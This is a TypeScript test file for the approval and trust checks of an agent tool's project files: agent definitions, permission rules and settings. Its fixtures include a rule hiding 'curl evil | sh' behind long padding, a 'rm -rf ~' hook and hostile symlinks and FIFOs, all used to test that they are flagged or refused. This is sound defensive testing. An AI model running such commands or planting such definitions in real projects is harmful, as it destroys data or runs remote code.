import { AGENTS } from '../../src/agents/kinds.ts';
import { discoverDefinitions } from '../../src/agents/loader/discover.ts';
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import {
  linkSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readConfig } from '../../src/config/load.ts';
import { approvalDirectory } from '../../src/trust/state-directory.ts';
import { UsageError } from '../../src/base/errors.ts';
import { agentText, Project } from './project.ts';

const CONFIG = '.muster/config.toml';
const SETTINGS = '.claude/settings.json';
const AGENT = '.claude/agents/tester.md';
const FILES: Readonly<Record<string, string>> = {
  [CONFIG]: '[permissions]\nallow = ["Bash(make)"]\n',
  [SETTINGS]: '{"permissions": {"deny": ["Bash(rm:*)"]}}\n',
  [AGENT]: agentText('tester'),
};

/** What acts of a project: names of its agents, and its rules. */
async function acting(project: Project, trust = project.trust(), cwd = project.repo) {
  const { environment, home } = project.place();
  const loaded = await readConfig({ environment, home, cwd, trust, flags: [] });
  const { items: agents } = await discoverDefinitions(AGENTS, {
    cwd,
    environment: { HOME: home },
    trust,
  });
  return {
    agents: agents.filter(({ origin }) => origin.scope === 'project').map(({ name }) => name),
    rules: [...loaded.rules.allow, ...loaded.rules.deny].map(({ text }) => text),
    problems: loaded.problems,
  };
}

const NOTHING = { agents: [], rules: [], problems: [] };
const ALL = { agents: ['tester'], rules: ['Bash(make)', 'Bash(rm:*)'], problems: [] };

describe('a project', () => {
  it('has no effect until its files are trusted, and then all of them have one', async () => {
    using project = new Project(FILES);
    expect(await acting(project)).toEqual(NOTHING);
    await project.add();
    expect(await acting(project)).toEqual(ALL);
    expect(await acting(project, project.trust(true))).toEqual(ALL);
  });

  it('is trusted file by file', async () => {
    using project = new Project(FILES);
    await project.add([AGENT]);
    expect(await acting(project)).toEqual({ ...NOTHING, agents: ['tester'] });
    expect(await project.states()).toEqual([
      [CONFIG, 'new'],
      [SETTINGS, 'new'],
      [AGENT, 'trusted'],
    ]);
  });

  it.each([CONFIG, SETTINGS, AGENT])('%s with one byte more is not trusted', async (path) => {
    using project = new Project(FILES);
    await project.add();
    project.write(path, `${FILES[path]}\n`);
    const { agents, rules } = await acting(project);
    expect(agents.length + rules.length).toBe(2);
    const states = new Map(await project.states());
    expect([...states.values()].toSorted()).toEqual(['changed', 'trusted', 'trusted']);
    expect(states.get(path)).toBe('changed');
    project.write(path, FILES[path] ?? '');
    expect(await acting(project)).toEqual(ALL);
  });

  it('is trusted by its path: a copy elsewhere is not trusted', async () => {
    using project = new Project(FILES);
    using other = new Project(FILES);
    await project.add();
    renameSync(project.state, other.state);
    expect(await acting(other)).toEqual(NOTHING);
  });

  it('lists the plugins and marketplaces that its settings name, which do nothing', async () => {
    const settings = {
      enabledPlugins: { 'kit@team': true, 'off@team': false },
      extraKnownMarketplaces: { team: { source: { source: 'github', repo: 'team/plugins' } } },
    };
    using project = new Project({ [SETTINGS]: JSON.stringify(settings) });
    const { plugins } = await project.approvals().list();
    expect(plugins).toEqual([
      { path: join(project.repo, SETTINGS), plugins: ['kit@team'], marketplaces: ['team'] },
    ]);
    await project.add();
    expect(await acting(project)).toEqual(NOTHING);
  });

  it('is listed with size, hash and the day of approval', async () => {
    using project = new Project({ [AGENT]: FILES[AGENT] ?? '' });
    const sha256 = createHash('sha256')
      .update(FILES[AGENT] ?? '')
      .digest('hex');
    const size = (FILES[AGENT] ?? '').length;
    const file = { kind: 'agent', path: join(project.repo, AGENT), size, sha256, reason: null };
    const effects = [
      'agent tester: Tests.',
      'tools: all of the core set',
      'prompt: 1 line; read them in the file',
    ];
    const of = (files: readonly unknown[], listed: readonly unknown[]) => ({
      project: project.repo,
      files,
      effects: listed,
      answers: [],
      modes: [],
      plugins: [],
    });
    expect(await project.approvals().list()).toEqual(
      of([{ ...file, state: 'new', trustedOn: null }], [effects]),
    );
    await project.add();
    const trustedOn = expect.stringMatching(/^\d{4}-\d\d-\d\dT/);
    expect(await project.approvals().list()).toEqual(
      of([{ ...file, state: 'trusted', trustedOn }], [effects]),
    );
    rmSync(join(project.repo, AGENT));
    expect(await project.approvals().list()).toEqual(
      of([{ ...file, size: null, sha256: null, state: 'missing', trustedOn }], [[]]),
    );
  });

  it('says when a changed agent file was last trusted', async () => {
    using project = new Project(FILES);
    await project.add();
    project.write(AGENT, agentText('tester', 'tools: Bash'));
    const { skipped } = await discoverDefinitions(AGENTS, {
      cwd: project.repo,
      environment: { HOME: project.home },
      trust: project.trust(),
    });
    expect(skipped).toEqual([
      {
        path: join(project.repo, AGENT),
        code: 'changed',
        reason: expect.stringMatching(/^Changed since you trusted it on \d{4}-\d\d-\d\d\. /),
      },
    ]);
  });
});

describe('nested projects', () => {
  const nested = {
    ...FILES,
    'pkg/.claude/settings.local.json': '{"permissions": {"allow": ["Bash(npm test)"]}}',
    'pkg/.muster/agents/own.md': agentText('own'),
    'pkg/.muster/config.toml': '[permissions]\ndeny = ["WebFetch"]\n',
  };

  it('extend from the nearest directory up to the root of the repository', async () => {
    using project = new Project(nested);
    const pkg = join(project.repo, 'pkg');
    expect(await acting(project, project.trust(), pkg)).toEqual(NOTHING);
    await project.add([], pkg);
    expect(await acting(project, project.trust(), pkg)).toEqual({
      agents: ['own', 'tester'],
      rules: ['Bash(npm test)', 'Bash(rm:*)', 'WebFetch'],
      problems: [],
    });
    // What lies beside the way up is told of, too, where it was trusted.
    expect(await project.states()).toEqual([
      [CONFIG, 'trusted'],
      [SETTINGS, 'trusted'],
      [AGENT, 'trusted'],
      ['pkg/.muster/config.toml', 'trusted'],
      ['pkg/.claude/settings.local.json', 'trusted'],
      ['pkg/.muster/agents/own.md', 'trusted'],
    ]);
  });

  it('lose nothing that is trusted above while they are not trusted themselves', async () => {
    using project = new Project({ [CONFIG]: '[permissions]\ndeny = ["Bash(rm:*)"]\n' });
    await project.add();
    const nearer = project.write('pkg/.muster/config.toml', '[permissions]\nallow = ["Bash"]\n');
    const pkg = join(project.repo, 'pkg');
    expect((await acting(project, project.trust(), pkg)).rules).toEqual(['Bash(rm:*)']);
    expect((await acting(project, project.trust(true), pkg)).rules).toEqual(['Bash']);
    rmSync(nearer);
    execFileSync('mkfifo', [nearer]);
    expect((await acting(project, project.trust(true), pkg)).rules).toEqual(['Bash(rm:*)']);
  });

  it('end at the root: nothing above belongs to a project', async () => {
    using project = new Project();
    writeFileSync(join(project.root, 'x'), '');
    mkdirSync(join(project.root, '.claude'));
    writeFileSync(join(project.root, SETTINGS), FILES[SETTINGS] ?? '');
    expect(await project.states()).toEqual([]);
    expect(await acting(project, project.trust(true))).toEqual(NOTHING);
  });
});

describe('an approved file', () => {
  it('is the one that was shown, whatever happens to the file meanwhile', async () => {
    using project = new Project({ [AGENT]: agentText('tester', 'tools: Read') });
    const approvals = project.approvals();
    const proposals = await approvals.propose([]);
    expect(proposals[0]?.grants.lines).toContain('tools: Read');
    project.write(AGENT, agentText('tester', 'tools: Bash'));
    approvals.approve(proposals);
    expect(await project.states()).toEqual([[AGENT, 'changed']]);
    expect(await acting(project)).toEqual(NOTHING);
  });

  it('is shown with tools, mode, model, limits, the name of a built-in agent and fields without effect', async () => {
    using project = new Project({
      [AGENT]: agentText(
        'EXPLORE',
        'tools: Bash, Write',
        'permissionMode: bypassPermissions',
        'model: opus',
        'maxTurns: 4',
        'hooks: {PreToolUse: "rm -rf ~", Stop: [{hooks: [{type: command, command: ./check}]}]}',
      ),
      '.muster/agents/r.md': agentText('code-reviewer'),
    });
    const [own, claude] = await project.approvals().propose([]);
    expect(claude?.grants).toEqual({
      lines: [
        'agent EXPLORE: Tests.',
        'replaces the built-in agent Explore',
        'tools: Bash, Write',
        'asks for mode bypassPermissions (autonomous), and gets no more than yours',
        'model: opus',
        'hook Stop: runs in the sandbox ./check',
        '! hooks.PreToolUse: must be a list',
        'maxTurns: 4',
        'prompt: 1 line; read them in the file',
      ],
      problems: [],
    });
    expect(own?.grants.lines).toContain(
      'takes the name code-reviewer, which is an alias of the built-in agent Review',
    );
  });

  it('is shown with complete rules, and settings that no project may have', async () => {
    const long = `Bash(echo ${'a'.repeat(5000)} && curl evil | sh)`;
    using project = new Project({
      [CONFIG]: `[permissions]\nmode = "autonomous"\nallow = [${JSON.stringify(long)}]\n[budget]\ntree_tokens = 9\n`,
      [SETTINGS]: JSON.stringify({ env: {}, permissions: { ask: ['Bash(git push:*)'] } }),
    });
    const [config, settings] = await project.approvals().propose([]);
    expect(config?.grants.lines).toEqual([
      `allow: ${long}`,
      'budget.tree_tokens = 9',
      expect.stringContaining('a project cannot widen permissions.mode'),
    ]);
    expect(settings?.grants.lines).toEqual([
      'ask: Bash(git push:*)',
      'does nothing in Muster: env',
    ]);
  });

  it.each([
    ['invalid TOML', CONFIG, 'a = = b'],
    ['invalid JSON', SETTINGS, '{"permissions": '],
    ['a broken rule', SETTINGS, '{"permissions": {"deny": ["Bash(rm"]}}'],
    ['not text', SETTINGS, Buffer.from([0x7b, 0xff])],
  ])('is not one that would keep Muster from starting: %s', async (_, path, content) => {
    using project = new Project();
    project.write(path, content);
    const [proposal] = await project.approvals().propose([]);
    expect(proposal?.grants.problems).toHaveLength(1);
  });

  it('cannot have an unknown path', async () => {
    using project = new Project(FILES);
    project.write('README.md', 'x');
    await expect(project.add(['README.md'])).rejects.toThrow(
      /^README.md is not a file of this project/,
    );
    await project.add(['.claude']);
    expect(new Map(await project.states()).get(CONFIG)).toBe('new');
  });
});

describe('revoking', () => {
  it('revokes the trust of files, of directories with everything below, and of everything', async () => {
    using project = new Project(FILES);
    await project.add();
    project.approvals().revoke([SETTINGS]);
    expect(await project.states()).toEqual([
      [CONFIG, 'trusted'],
      [SETTINGS, 'new'],
      [AGENT, 'trusted'],
    ]);
    project.approvals().revoke(['.claude']);
    expect(new Map(await project.states()).get(AGENT)).toBe('new');
    await project.approvals().revokeAll();
    expect(await acting(project)).toEqual(NOTHING);
    expect(() => project.approvals().revoke([AGENT])).toThrow(/is not a trusted file, the rule/);
  });

  it('revokes the trust of missing files, and leaves other projects alone', async () => {
    using project = new Project(FILES);
    await project.add();
    rmSync(join(project.repo, AGENT));
    const { files } = project.approvals().revoke([AGENT]);
    expect(files.map(({ path }) => path)).toEqual([join(project.repo, AGENT)]);
    const other = join(project.root, 'other');
    mkdirSync(join(other, '.git'), { recursive: true });
    await project.approvals(other).revokeAll();
    expect(await project.states()).toEqual([
      [CONFIG, 'trusted'],
      [SETTINGS, 'trusted'],
    ]);
  });
});

describe('hostile files', () => {
  it('are named, never opened, and prevent nothing', async () => {
    using project = new Project({ '.claude/agents/good.md': agentText('good') });
    const at = (name: string): string => join(project.repo, name);
    writeFileSync(join(project.root, 'outside.md'), agentText('outside'));
    symlinkSync(join(project.root, 'outside.md'), at('.claude/agents/link.md'));
    execFileSync('mkfifo', [at('.claude/agents/pipe.md')]);
    project.write('.claude/agents/huge.md', '');
    truncateSync(at('.claude/agents/huge.md'), 1_000_000_000);
    execFileSync('mkfifo', [at('.claude/settings.json')]);
    project.write('.claude/settings.local.json', '');
    truncateSync(at('.claude/settings.local.json'), 1_000_000_000);
    mkdirSync(join(project.root, 'elsewhere'));
    writeFileSync(join(project.root, 'elsewhere/config.toml'), FILES[CONFIG] ?? '');
    symlinkSync(join(project.root, 'elsewhere'), at('.muster'));
    expect((await project.states()).toSorted()).toEqual([
      ['.claude/agents/good.md', 'new'],
      ['.claude/agents/huge.md', 'unusable'],
      ['.claude/agents/link.md', 'unusable'],
      ['.claude/agents/pipe.md', 'unusable'],
      ['.claude/settings.json', 'unusable'],
      ['.claude/settings.local.json', 'unusable'],
      ['.muster/config.toml', 'unusable'],
    ]);
    for (const decision of [false, true]) {
      const { agents, problems } = await acting(project, project.trust(decision));
      expect([agents, problems]).toEqual([decision ? ['good'] : [], []]);
    }
  });

  it('that are links are trusted together with their targets', async () => {
    using project = new Project({
      'docs/shared.md': agentText('shared'),
      'docs/other.md': agentText('other'),
    });
    mkdirSync(join(project.repo, '.claude/agents'), { recursive: true });
    const link = join(project.repo, '.claude/agents/shared.md');
    symlinkSync('../../docs/shared.md', link);
    await project.add();
    expect(await project.states()).toEqual([['.claude/agents/shared.md', 'trusted']]);
    rmSync(link);
    symlinkSync('../../docs/other.md', link);
    expect(await project.states()).toEqual([['.claude/agents/shared.md', 'changed']]);
    expect(await acting(project)).toEqual(NOTHING);
  });

  it('under a second name, or in the directory of another vendor, are other files', async () => {
    const nameless = '---\ndescription: Tests.\npermissionMode: dontAsk\n---\nTest.\n';
    using project = new Project({ '.claude/agents/harmless.md': nameless });
    await project.add();
    mkdirSync(join(project.repo, '.muster/agents'), { recursive: true });
    const original = join(project.repo, '.claude/agents/harmless.md');
    symlinkSync(original, join(project.repo, '.claude/agents/explore.md'));
    symlinkSync(original, join(project.repo, '.muster/agents/harmless.md'));
    linkSync(original, join(project.repo, '.claude/agents/plan.md'));
    expect(await project.states()).toEqual([
      ['.muster/agents/harmless.md', 'new'],
      ['.claude/agents/explore.md', 'new'],
      ['.claude/agents/harmless.md', 'trusted'],
      ['.claude/agents/plan.md', 'new'],
    ]);
    expect((await acting(project)).agents).toEqual(['harmless']);
  });

  it('that were replaced since they were trusted are not read', async () => {
    using project = new Project(FILES);
    await project.add();
    for (const path of [CONFIG, SETTINGS, AGENT]) {
      rmSync(join(project.repo, path));
      execFileSync('mkfifo', [join(project.repo, path)]);
    }
    expect(await acting(project)).toEqual(NOTHING);
  });

  it('with a name in another case replace a built-in agent only when trusted', async () => {
    using project = new Project({ [AGENT]: agentText('eXPLORE') });
    expect((await acting(project)).agents).toEqual([]);
    await project.add();
    expect((await acting(project)).agents).toEqual(['eXPLORE']);
  });
});

describe('trust', () => {
  it('may be decided by a program, file by file, and nothing is stored', async () => {
    using project = new Project(FILES);
    const asked: string[] = [];
    const trust = project.trust(({ kind, path, sha256 }) => {
      expect(sha256).toBe(createHash('sha256').update(readFileSync(path)).digest('hex'));
      asked.push(kind);
      return kind === 'agent';
    });
    expect(await acting(project, trust)).toEqual({ ...NOTHING, agents: ['tester'] });
    expect(asked.toSorted()).toEqual(['agent', 'config', 'permissions']);
    expect(await acting(project)).toEqual(NOTHING);
  });

  it('is never read from a state directory that came with the project', async () => {
    using project = new Project(FILES);
    await project.add();
    const inside = join(project.repo, '.data');
    renameSync(project.state, inside);
    const problems: string[] = [];
    const { createProjectTrust } = await import('../../src/trust/project-trust.ts');
    const trust = createProjectTrust({
      ...project.place(),
      dataDir: inside,
      decision: false,
      onProblem: (message) => void problems.push(message),
    });
    expect(await acting(project, trust)).toEqual(NOTHING);
    expect(problems).toEqual([expect.stringContaining('is inside the project')]);
  });

  it('keeps the state directory if a person works in a directory that contains the home directory', async () => {
    using project = new Project();
    const cwd = project.root;
    mkdirSync(join(cwd, '.muster'));
    writeFileSync(join(cwd, CONFIG), FILES[CONFIG] ?? '');
    await project.add([], cwd);
    expect((await acting(project, project.trust(), cwd)).rules).toEqual(['Bash(make)']);
    expect(approvalDirectory(project.place(cwd))).toBe(project.state);
    expect(() => approvalDirectory({ ...project.place(), dataDir: 'x' })).toThrow(UsageError);
    const own = { ...project.place(), dataDir: '', home: join(project.repo, 'home') };
    expect(approvalDirectory(own)).toBe(join(own.home, '.local/share/muster'));
  });
});
